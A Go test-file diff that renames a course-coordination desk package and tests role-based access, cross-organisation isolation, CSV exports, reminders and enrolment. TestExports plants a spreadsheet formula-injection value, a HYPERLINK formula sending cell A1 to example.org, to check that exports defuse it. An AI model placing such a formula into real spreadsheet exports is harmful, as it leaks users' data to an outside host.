@@ -1,4 +1,4 @@
-package reportweb_test
+package deskweb_test
 
 import (
 	"context"
@@ -18,12 +18,12 @@ import (
 	"ostoja/internal/clock"
 	"ostoja/internal/db"
 	"ostoja/internal/db/dbtest"
+	"ostoja/internal/desk"
+	"ostoja/internal/desk/desktest"
+	"ostoja/internal/desk/deskweb"
 	"ostoja/internal/errs"
 	"ostoja/internal/id"
 	"ostoja/internal/mail"
-	"ostoja/internal/report"
-	"ostoja/internal/report/reporttest"
-	"ostoja/internal/report/reportweb"
 	"ostoja/internal/web"
 	"ostoja/internal/web/webtest"
 )
@@ -71,19 +71,19 @@ func (f *fake) Send(_ context.Context, _ *db.Tx, m mail.Message) error {
 type world struct {
 	*webtest.Server
 	*fake
-	seeded  *reporttest.World
+	seeded  *desktest.World
 	d       *db.DB
-	service *report.Service
-	pages   *reportweb.Pages
+	service *desk.Service
+	pages   *deskweb.Pages
 }
 
-func newWorld(t testing.TB, d *db.DB, o reporttest.Options) *world {
+func newWorld(t testing.TB, d *db.DB, o desktest.Options) *world {
 	t.Helper()
-	w := &world{fake: &fake{}, d: d, seeded: reporttest.Fill(t, d, o)}
+	w := &world{fake: &fake{}, d: d, seeded: desktest.Fill(t, d, o)}
 	c := clock.NewFake(w.seeded.Now)
 	site := webtest.NewSite(t, c)
-	w.service = report.New(report.Deps{DB: d, Clock: c, Zone: w.seeded.Zone(), Courses: w.seeded.Catalogue(), Outbox: w.fake, Catalogue: site.Catalogue, BaseURL: site.BaseURL})
-	w.pages = reportweb.New(reportweb.Deps{Site: site, Service: w.service, Enroller: w.fake, Withdrawer: w.fake, Mover: w.fake})
+	w.service = desk.New(desk.Deps{DB: d, Clock: c, Zone: w.seeded.Zone(), Courses: w.seeded.Catalogue(), Outbox: w.fake, Catalogue: site.Catalogue, BaseURL: site.BaseURL})
+	w.pages = deskweb.New(deskweb.Deps{Site: site, Service: w.service, Enroller: w.fake, Withdrawer: w.fake, Mover: w.fake})
 	w.Server = webtest.New(t, site, func(m *web.Mux) { w.pages.Routes(m) })
 	for name, grant := range map[string]access.Grant{
 		"all": {Role: access.Coordinator}, "learner": {Role: access.Learner}, "reviewer": {Role: access.Reviewer}, "author": {Role: access.Author},
@@ -95,7 +95,7 @@ func newWorld(t testing.TB, d *db.DB, o reporttest.Options) *world {
 }
 
 func TestWhoIsRefused(t *testing.T) {
-	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
 	reads := []string{"/app/desk", "/app/desk/course-1", "/app/desk/course-1/people", "/app/desk/course-1/export/people.csv", "/app/desk/course-1/enrol"}
 	writes := []string{"/app/desk/course-2/enrol", "/app/desk/course-1/remind", "/app/desk/course-1/move", "/app/desk/course-1/withdraw/" + id.New(), "/app/desk/course-1/restore/" + id.New()}
 	for as, want := range map[string]struct{ read, enrolForm, write int }{
@@ -116,7 +116,7 @@ func TestWhoIsRefused(t *testing.T) {
 			}
 		}
 	}
-	foreign := w.seeded.Units[slices.IndexFunc(w.seeded.Units, func(u reporttest.Unit) bool { return u.Name == "Organizacja 2" })].ID
+	foreign := w.seeded.Units[slices.IndexFunc(w.seeded.Units, func(u desktest.Unit) bool { return u.Name == "Organizacja 2" })].ID
 	for path, status := range map[string]int{
 		"/app/desk/none": 404, "/app/desk/none/people": 404, "/app/desk/none/enrol": 404, "/app/desk/none/export/people.csv": 404,
 		"/app/desk/course-1/export/people.exe": 404, "/app/desk/course-1/export/passwords.csv": 404, "/app/desk/course-1/export/people": 404,
@@ -147,7 +147,7 @@ func total(t *testing.T, p webtest.Page) int {
 // Every figure on every page opens exactly the people whom it counts.
 func TestFiguresOpen(t *testing.T) {
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
-		w := newWorld(t, d, reporttest.Small)
+		w := newWorld(t, d, desktest.Small)
 		opened := 0
 		for _, path := range []string{
 			"/app/desk", "/app/desk/course-1", "/app/desk/course-1?by=units", "/app/desk/course-1?by=regions", "/app/desk/course-1?by=months",
@@ -178,7 +178,7 @@ func TestFiguresOpen(t *testing.T) {
 // A coordinator of one organisation meets nobody of another: on no page, in no choice, in no file.
 func TestOthersAreNotSeen(t *testing.T) {
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
-		w := newWorld(t, d, reporttest.Small)
+		w := newWorld(t, d, desktest.Small)
 		ctx := context.Background()
 		// Names that tell whose they are.
 		for i, person := range w.seeded.People {
@@ -219,7 +219,7 @@ func TestOthersAreNotSeen(t *testing.T) {
 }
 
 func TestPeoplePage(t *testing.T) {
-	w := newWorld(t, dbtest.SQLite(t), reporttest.Options{Organisations: 1, RegionsEach: 1, PostsEach: 1, People: 130, Courses: 1, Seed: 5})
+	w := newWorld(t, dbtest.SQLite(t), desktest.Options{Organisations: 1, RegionsEach: 1, PostsEach: 1, People: 130, Courses: 1, Seed: 5})
 	p := w.Get("all", "/app/desk/course-1/people?q=nowak&stalled=7&sort=active&desc=1")
 	for selector, want := range map[string]string{`input[name=q]`: "nowak", `select[name=stalled] option[selected]`: "7"} {
 		if got, _ := p.Find(selector).First().Attr("value"); got != want {
@@ -255,7 +255,7 @@ func TestPeoplePage(t *testing.T) {
 
 func TestExports(t *testing.T) {
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
-		w := newWorld(t, d, reporttest.Small)
+		w := newWorld(t, d, desktest.Small)
 		ctx := context.Background()
 		formula := `=HYPERLINK("http://example.org?"&A1,"x")`
 		for _, change := range []string{`UPDATE person SET given_name = ?`, `UPDATE unit SET name = ?`} {
@@ -286,7 +286,7 @@ func TestExports(t *testing.T) {
 					}
 				}
 			}
-			list, n, err := w.service.People(ctx, access.System, "course-1", report.Filter{Figure: report.Passed}, report.Sort{}, report.Page{})
+			list, n, err := w.service.People(ctx, access.System, "course-1", desk.Filter{Figure: desk.Passed}, desk.Sort{}, desk.Page{})
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -301,7 +301,7 @@ func TestExports(t *testing.T) {
 }
 
 func TestRemind(t *testing.T) {
-	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
 	p := w.Post("all", "/app/desk/course-1/remind", url.Values{"all": {"1"}, "stalled": {"14"}, "q": {"a"}, "unit": {w.seeded.Units[0].ID}})
 	if p.Status != http.StatusSeeOther || !strings.Contains(p.Header.Get("Location"), "stalled=14") || len(w.mail) == 0 {
 		t.Errorf("%d %s, %d letters", p.Status, p.Header.Get("Location"), len(w.mail))
@@ -320,7 +320,7 @@ func TestRemind(t *testing.T) {
 }
 
 func TestWithdrawAndMove(t *testing.T) {
-	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
 	list := w.Get("all", "/app/desk/course-1/people?state=in-progress")
 	action, _ := list.Find("button[formaction]").First().Attr("formaction")
 	back, _ := list.Find("input[name=back]").Attr("value")
@@ -343,7 +343,7 @@ func TestWithdrawAndMove(t *testing.T) {
 }
 
 func TestEnrol(t *testing.T) {
-	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
 	path := "/app/desk/course-2/enrol"
 	p := w.Get("all", path)
 	people := p.Find("input[name=person]").Map(func(_ int, s *goquery.Selection) string { return s.AttrOr("value", "") })
@@ -364,7 +364,7 @@ func TestEnrol(t *testing.T) {
 }
 
 func TestPersonSection(t *testing.T) {
-	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
 	for as, want := range map[string]bool{"all": true, "learner": false} {
 		m := web.NewMux(w.Site)
 		m.Handle("GET /app/{$}", func(rw http.ResponseWriter, r *http.Request) error {
@@ -383,13 +383,13 @@ func TestPersonSection(t *testing.T) {
 
 // Nothing has happened yet: each page says what to do next.
 func TestEmpty(t *testing.T) {
-	w := newWorld(t, dbtest.SQLite(t), reporttest.Options{Organisations: 1, Courses: 1, Seed: 1})
+	w := newWorld(t, dbtest.SQLite(t), desktest.Options{Organisations: 1, Courses: 1, Seed: 1})
 	for _, path := range []string{"/app/desk/course-1", "/app/desk/course-1/people"} {
 		if p := w.Get("all", path); p.Find(".empty a[href='/app/desk/course-1/enrol']").Length() != 1 {
 			t.Errorf("%s: %s", path, p.Text(".empty"))
 		}
 	}
-	w = newWorld(t, dbtest.SQLite(t), reporttest.Options{Organisations: 1})
+	w = newWorld(t, dbtest.SQLite(t), desktest.Options{Organisations: 1})
 	if p := w.Get("all", "/app/desk"); p.Find(".empty").Length() != 1 {
 		t.Error("no empty state without courses")
 	}
@@ -397,7 +397,7 @@ func TestEmpty(t *testing.T) {
 
 // Whole pages with 15,000 learners.
 func BenchmarkPages(b *testing.B) {
-	w := newWorld(b, dbtest.SQLite(b), reporttest.Large)
+	w := newWorld(b, dbtest.SQLite(b), desktest.Large)
 	for _, path := range []string{"/app/desk", "/app/desk/course-1", "/app/desk/course-1?by=units", "/app/desk/course-1/people", "/app/desk/course-1/people?sort=score&desc=1", "/app/desk/course-2/enrol"} {
 		b.Run(path, func(b *testing.B) {
 			size := 0
